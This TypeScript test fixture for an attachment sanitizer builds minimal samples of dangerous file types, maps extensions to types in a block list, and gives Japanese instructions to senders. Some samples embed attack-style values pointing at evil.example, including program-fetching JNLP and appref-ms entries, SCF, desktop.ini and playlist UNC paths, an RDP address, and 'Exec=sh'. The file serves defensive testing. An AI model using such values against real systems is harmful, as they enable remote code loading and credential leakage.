/** What is refused by name: a sample of each kind, the extensions of threats.md §3.8, and what its sender is told to do instead. */
import type { KnownKey } from '../../../sanitizer/formats/known.ts'
import { contentTypes, ole2Of, zipOf } from './containers.ts'

const bytes = (text: string): Buffer => Buffer.from(text, 'latin1')
const padded = (text: string, length = 600): Buffer => Buffer.concat([bytes(text), Buffer.alloc(length)])
const at = (offset: number, text: string): Buffer => Buffer.concat([Buffer.alloc(offset), bytes(text), Buffer.alloc(600)])
const windowsText = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le')
/** A boot sector: its jump, the name of its system at a place, and the mark at the end. */
const boot = (offset: number, name: string): Buffer => {
  const sector = Buffer.alloc(1024)
  sector.set([0xeb, 0x58, 0x90])
  sector.write(name, offset, 'latin1')
  sector.set([0x55, 0xaa], 510)
  return sector
}
const xml = (root: string): Buffer => bytes(`<?xml version="1.0"?>\r\n${root}`)
const office = (main: string): Buffer => zipOf({ '[Content_Types].xml': contentTypes(main), 'x/x.xml': '<x/>' })

type Sample = readonly [type: KnownKey, what: string, content: Buffer]

const programs: readonly Sample[] = [
  ['pe-executable', 'exe, dll, scr, cpl, xll', padded('MZ\x90\0\x03\0\0\0')],
  ['elf-executable', 'ELF', padded('\x7fELF\x02\x01\x01')],
  ['macho-executable', 'Mach-O, 64 bits', padded('\xcf\xfa\xed\xfe\x07\0\0\x01')],
  ['java-class', 'class; also Mach-O of several machines', padded('\xca\xfe\xba\xbe\0\0\0\x34')],
  ['jar', 'JAR', zipOf({ 'META-INF/MANIFEST.MF': 'Main-Class: x' })],
  ['apk', 'APK', zipOf({ 'AndroidManifest.xml': 'x' })],
  ['ios-app', 'IPA', zipOf({ 'Payload/x.app/Info.plist': 'x' })],
  ['windows-app', 'MSIX', zipOf({ 'AppxManifest.xml': '<x/>' })],
  ['windows-app', 'gadget', zipOf({ 'gadget.xml': '<gadget/>', 'a.html': 'x' })],
  ['browser-extension', 'CRX', padded('Cr24\x03\0\0\0')],
  ['msi', 'MSI', ole2Of(['x'], '84100c0000000000c000000000000046')],
  ['msi', 'MSP', ole2Of(['x'], '86100c0000000000c000000000000046')],
  ['linux-package', 'DEB', padded('!<arch>\ndebian-binary')],
  ['linux-package', 'RPM', padded('\xed\xab\xee\xdb\x03')],
  ['macos-package', 'PKG', padded('xar!\0\x1c')],
  ['wasm', 'WebAssembly', padded('\0asm\x01\0\0\0')],
  ['swf', 'Flash', padded('CWS\x0a\x10\x10\0\0')],
  ['xlam', 'Excel add-in', office('application/vnd.ms-excel.addin.macroEnabled.main+xml')],
  ['ppam', 'PowerPoint add-in', office('application/vnd.ms-powerpoint.addin.macroEnabled.main+xml')],
  ['program-fetcher', 'JNLP', xml('<jnlp spec="1.0+" codebase="http://evil.example/"><application-desc/></jnlp>')],
  [
    'program-fetcher',
    'ClickOnce',
    xml('<asmv1:assembly xmlns="urn:schemas-microsoft-com:asm.v2" xmlns:asmv1="urn:schemas-microsoft-com:asm.v1"/>'),
  ],
  [
    'program-fetcher',
    'appref-ms',
    windowsText('http://evil.example/x.application#x.application, Culture=neutral, PublicKeyToken=0000000000000000\r\n'),
  ],
  [
    'diagcab',
    'diagcfg',
    xml('<dcmPS:DiagnosticPackage SchemaVersion="1.0" xmlns:dcmPS="http://www.microsoft.com/schemas/dcm/package/2007"/>'),
  ],
]

const scripts: readonly Sample[] = [
  ['windows-script', 'wsf', xml('<job id="x"><script language="VBScript">x</script></job>')],
  ['windows-script', 'sct', xml('<scriptlet><registration progid="x"/></scriptlet>')],
  ['windows-script', 'encoded VBScript', bytes('#@~^DgAAAA==\\ko$K6,JCJ@#@&3QQAAA==^#~@')],
  ['hta', 'HTA', bytes('<html><head><HTA:APPLICATION id="x"/></head></html>')],
  ['registry', 'reg', windowsText('Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n')],
  ['registry', 'hive', padded('regf\x01\0\0\0')],
  ['inf', 'setup script', bytes('; comment\r\n[Version]\r\nSignature="$Windows NT$"\r\n')],
  ['inf', 'autorun.inf', bytes('[autorun]\r\nopen=x.exe\r\n')],
  ['inf', 'desktop.ini', windowsText('[.ShellClassInfo]\r\nIconResource=\\\\evil.example\\x\r\n')],
  ['management-console', 'msc', xml('<MMC_ConsoleFile ConsoleVersion="3.0"/>')],
  ['chm', 'CHM', padded('ITSF\x03\0\0\0')],
  ['chm', 'HLP', padded('\x3f\x5f\x03\0')],
  ['excel-query', 'IQY', bytes('WEB\r\n1\r\nhttp://evil.example/\r\n')],
  ['excel-query', 'OQY', bytes('QueryType=OLEDB\r\nVersion=1\r\nCommandText=x\r\n')],
  ['excel-query', 'DQY', bytes('XLODBC\r\n1\r\nDSN=x\r\n')],
  ['sylk', 'SLK', bytes('ID;PWXL;N;E\r\nNN;NAuto_open;ER101C1\r\n')],
  ['dif', 'DIF', bytes('TABLE\r\n0,1\r\n"EXCEL"\r\n')],
  ['scheduled-job', 'job', padded('\0\x06\x01\0\x12\x34\x56')],
]

const shortcuts: readonly Sample[] = [
  ['lnk', 'LNK', padded('L\0\0\0\x01\x14\x02\0')],
  ['url', 'URL', bytes('[InternetShortcut]\r\nURL=file://evil.example/x\r\n')],
  [
    'url',
    'URL behind another section',
    bytes('[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=file://x/\r\n'),
  ],
  ['url', 'desktop', bytes('[Desktop Entry]\nExec=sh\n')],
  [
    'url',
    'webloc',
    xml('<!DOCTYPE plist PUBLIC "a" "b"><plist version="1.0"><dict><key>URL</key><string>file://x</string></dict></plist>'),
  ],
  ['library-file', 'library-ms', xml('<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"/>')],
  [
    'library-file',
    'searchConnector-ms',
    xml('<searchConnectorDescription xmlns="http://schemas.microsoft.com/windows/2009/searchConnector"/>'),
  ],
  ['library-file', 'search-ms', xml('<persistedQuery version="1.0"/>')],
  [
    'setting-shortcut',
    'settingcontent-ms',
    xml('<PCSettings><SearchableContent><ApplicationInformation/></SearchableContent></PCSettings>'),
  ],
  ['scf', 'SCF', bytes('[Shell]\r\nCommand=2\r\nIconFile=\\\\evil.example\\x.ico\r\n')],
  ['theme', 'theme', bytes('; Copyright\r\n\r\n[Theme]\r\nDisplayName=x\r\n')],
  ['rdp', 'RDP', bytes('screen mode id:i:2\r\nfull address:s:evil.example\r\n')],
  ['contact', 'contact', xml('<c:contact c:Version="1" xmlns:c="http://schemas.microsoft.com/Contact"/>')],
]

const disks: readonly Sample[] = [
  ['iso', 'ISO 9660', at(0x8001, 'CD001\x01')],
  ['iso', 'UDF', at(0x8001, 'BEA01\x01')],
  ['iso', 'raw sectors', at(0x9311, 'CD001\x01')],
  ['raw-disk', 'NTFS', boot(3, 'NTFS    ')],
  ['raw-disk', 'exFAT', boot(3, 'EXFAT   ')],
  ['raw-disk', 'FAT16', boot(54, 'FAT16   ')],
  ['raw-disk', 'FAT32', boot(82, 'FAT32   ')],
  ['raw-disk', 'GPT', at(512, 'EFI PART')],
  ['vhd', 'VHD', Buffer.concat([Buffer.alloc(1024), bytes('conectix'), Buffer.alloc(504)])],
  ['vhd', 'VHDX', padded('vhdxfile')],
  ['vhd', 'VMDK', padded('KDMV\x01\0\0\0')],
  ['vhd', 'VDI', padded(`${'<<< Oracle VM VirtualBox Disk Image >>>\n'.padEnd(0x40, '\0')}\x7f\x10\xda\xbe`)],
  ['dmg', 'DMG', Buffer.concat([Buffer.alloc(1024), bytes('koly'), Buffer.alloc(508)])],
  ['wim', 'WIM', padded('MSWIM\0\0\0\xd0')],
]

const documents: readonly Sample[] = [
  ['ichitaro', '一太郎 JTD', ole2Of(['\x04JSRV_SegmentInformation', 'DocumentText'])],
  ['ichitaro', '一太郎 Ver.5 and before', padded(`DOC${'\0'.repeat(40)}\x16`)],
  ['justsystem', '花子', ole2Of(['\x04JSRV_SegmentInformation', 'Figure'])],
  ['onenote', 'OneNote', Buffer.concat([Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), Buffer.alloc(64)])],
  ['publisher', 'Publisher', ole2Of(['Contents', 'Quill'])],
  ['visio', 'Visio', ole2Of(['VisioDocument'])],
  ['vsdx', 'Visio, new', office('application/vnd.ms-visio.drawing.main+xml')],
  ['xps', 'XPS', zipOf({ 'FixedDocSeq.fdseq': '<x/>' })],
  ['xps', 'OpenXPS', office('application/vnd.ms-package.xps-fixeddocumentsequence+xml')],
  ['hwp', 'HWP', ole2Of(['FileHeader', '\x05HwpSummaryInformation'])],
  ['hwp', 'HWP 3', padded('HWP Document File V3.00')],
  ['hwpx', 'HWPX', zipOf({ mimetype: 'application/hwp+zip' }, false)],
  ['postscript', 'PostScript', bytes('%!PS-Adobe-3.0\n(x) show\n')],
  ['eps', 'EPS', bytes('%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n')],
  ['eps', 'EPS with a preview', padded('\xc5\xd0\xd3\xc6\x20')],
  ['printer-data', 'PJL', bytes('\x1b%-12345X@PJL JOB\r\n')],
  ['mht', 'MHT', bytes('From: <Saved by Windows>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n--x')],
  ['office-xml', 'Word 2003 XML', xml('<?mso-application progid="Word.Document"?><w:wordDocument/>')],
  ['dwg', 'DWG', padded('AC1032\0\0')],
  ['dxf', 'DXF', bytes('  0\r\nSECTION\r\n  2\r\nHEADER\r\n')],
  ['dxf', 'DXF, binary', padded('AutoCAD Binary DXF\r\n\x1a\0')],
  ['sxf', 'SFC, P21', bytes('ISO-10303-21;\r\nHEADER;\r\n')],
  ['jww', 'JWW', padded('JwwData.')],
  ['dwf', 'DWF', padded('(DWF V06.00)')],
  ['access', 'MDB', at(4, 'Standard Jet DB')],
  ['access', 'ACCDB', at(4, 'Standard ACE DB')],
  ['sqlite', 'SQLite', padded('SQLite format 3\0')],
  ['font', 'TrueType', padded('\0\x01\0\0\0\x0e\0\x80')],
  ['font', 'OpenType', padded('OTTO\0\x0e')],
  ['font', 'WOFF2', padded('wOF2\0\x01\0\0')],
  ['pst', 'PST', padded('!BDN\x12\x34')],
  ['playlist', 'M3U', bytes('#EXTM3U\r\n\\\\evil.example\\x\\a.mp3\r\n')],
  ['playlist', 'ASX', bytes('<asx version="3.0"><entry><ref href="file://evil.example/x"/></entry></asx>')],
  ['cab', 'CAB, MSU, diagcab, themepack, onepkg', padded('MSCF\0\0\0\0')],
  ['ace', 'ACE', at(7, '**ACE**')],
  ['arj', 'ARJ', padded('\x60\xea\x2c\0')],
]

/** Content → type, whatever it is called. */
export const byContent: readonly Sample[] = [...programs, ...scripts, ...shortcuts, ...disks, ...documents]

/** The extensions of §3.8 and §3.5, and those that Outlook blocks; each wins over harmless content. */
export const byExtension: readonly (readonly [extensions: string, type: KnownKey])[] = [
  ['exe dll scr pif com cpl ocx sys drv', 'pe-executable'],
  ['elf so', 'elf-executable'],
  ['macho app dylib', 'macho-executable'],
  ['class', 'java-class'],
  ['jar', 'jar'],
  ['jnlp application appref-ms xbap', 'program-fetcher'],
  ['apk', 'apk'],
  ['ipa', 'ios-app'],
  ['msi msp mst msu', 'msi'],
  ['msix appx gadget', 'windows-app'],
  ['crx xpi', 'browser-extension'],
  ['deb rpm', 'linux-package'],
  ['pkg', 'macos-package'],
  ['pyc pyz', 'python-bytecode'],
  ['diagcab diagcfg', 'diagcab'],
  ['swf', 'swf'],
  ['xla xll xlm', 'excel-addin'],
  ['wll wiz', 'word-addin'],
  ['ppa', 'powerpoint-addin'],
  ['xlam', 'xlam'],
  ['ppam', 'ppam'],
  ['sldm', 'powerpoint-slide'],
  ['otm', 'office-vba'],
  ['bat cmd', 'batch'],
  ['ps1 psm1 psd1 ps1xml', 'powershell'],
  ['vbs vbe js jse wsf wsh wsc sct ws htc', 'windows-script'],
  ['hta', 'hta'],
  ['sh bash command', 'shell-script'],
  ['py pyw', 'python'],
  ['php pl asp aspx', 'perl'],
  ['reg', 'registry'],
  ['inf ins isp', 'inf'],
  ['msc', 'management-console'],
  ['job', 'scheduled-job'],
  ['chm hlp', 'chm'],
  ['iqy oqy dqy rqy odc', 'excel-query'],
  ['slk', 'sylk'],
  ['dif', 'dif'],
  ['lsp fas', 'lisp'],
  ['lnk xnk', 'lnk'],
  ['url website webloc desktop', 'url'],
  ['library-ms searchConnector-ms search-ms', 'library-file'],
  ['settingcontent-ms', 'setting-shortcut'],
  ['shs', 'scrap'],
  ['scf', 'scf'],
  ['theme themepack deskthemepack', 'theme'],
  ['rdp', 'rdp'],
  ['contact group', 'contact'],
  ['iso img udf nrg', 'iso'],
  ['vfd', 'raw-disk'],
  ['vhd vhdx vmdk', 'vhd'],
  ['dmg', 'dmg'],
  ['wim', 'wim'],
  ['one onepkg', 'onenote'],
  ['xps oxps', 'xps'],
  ['ps', 'postscript'],
  ['prn', 'printer-data'],
  ['printerexport', 'printer-export'],
  ['dwf', 'dwf'],
  ['mdb accdb accde mde ade adp laccdb mdw', 'access'],
  ['dbf', 'dbase'],
  ['ttf otf fon woff2', 'font'],
  ['p7m', 'pkcs7'],
  ['pst ost', 'pst'],
  ['m3u pls asx wax wvx', 'playlist'],
]

const PDF_OR_OFFICE = '作成したソフトでPDFか、新しい形式のWord・Excel・PowerPoint(.docx・.xlsx・.pptx)に保存し直して送ってください。'

/** What each is told, word by word. */
export const instead: Readonly<Record<string, string>> = {
  'pe-executable elf-executable macho-executable java-class jar program-fetcher apk ios-app msi windows-app browser-extension linux-package macos-package python-bytecode wasm office-vba diagcab xlam ppam excel-addin word-addin powerpoint-addin registry inf management-console scheduled-job setting-shortcut rdp printer-export pem':
    '必要なときは、情報システム課に相談してください。',
  'batch powershell windows-script javascript hta shell-script python perl applescript':
    '内容を見せたいときは、本文に貼り付けるか、PDFに印刷して送ってください。',
  'lnk url library-file scrap scf': '指している先のファイルそのものを送るか、アドレスを本文に書いてください。',
  'theme thmx': '',
  contact: '連絡先をvCard(.vcf)に書き出して送ってください。',
  'iso raw-disk vhd dmg wim': '中のファイルを取り出し、一つずつ、またはZIPにまとめて送ってください。',
  'ichitaro justsystem hwp hwpx docuworks docuworks-binder onenote works wordperfect iwork office-xml flat-opc odf flat-odf powerpoint-slide windows-journal ooxml-encrypted doc-encrypted xls-encrypted ppt-encrypted':
    PDF_OR_OFFICE,
  'publisher visio vsdx project xps epub chm postscript eps printer-data lisp dwg dwf dxf jww jwc sxf solidworks other-drawing':
    '作成したソフトでPDFに保存して送ってください。',
  'excel-query sylk dif': 'Excelブック(.xlsx)かCSVに保存し直して送ってください。',
  'access sqlite dbase filemaker': '必要な表をExcelブック(.xlsx)かCSVに書き出して送ってください。',
  font: '文字の形も伝えたいときは、その書体を使った文書をPDFに保存して送ってください。',
  mht: 'PDFに印刷するか、「Webページ、HTMLのみ」で保存し直して送ってください。',
  pst: '必要なメールを一通ずつ保存し(.msgか.eml)、それを送ってください。',
  pkcs7: '署名や暗号化を外したファイルを送ってください。',
  'compress cab arj ace': 'ZIPにまとめ直して送ってください。',
  'psd jxl jp2 animated-cursor': 'PNGかJPEGの画像に保存し直して送ってください。',
  playlist: '動画や音声のファイルそのものを送ってください。',
  'avi asf flv mpeg swf mp4 mov webm': 'MP4の動画に保存し直して送ってください。',
  'aac amr midi aiff flac ogg': 'MP3かWAVの音声に保存し直して送ってください。',
}
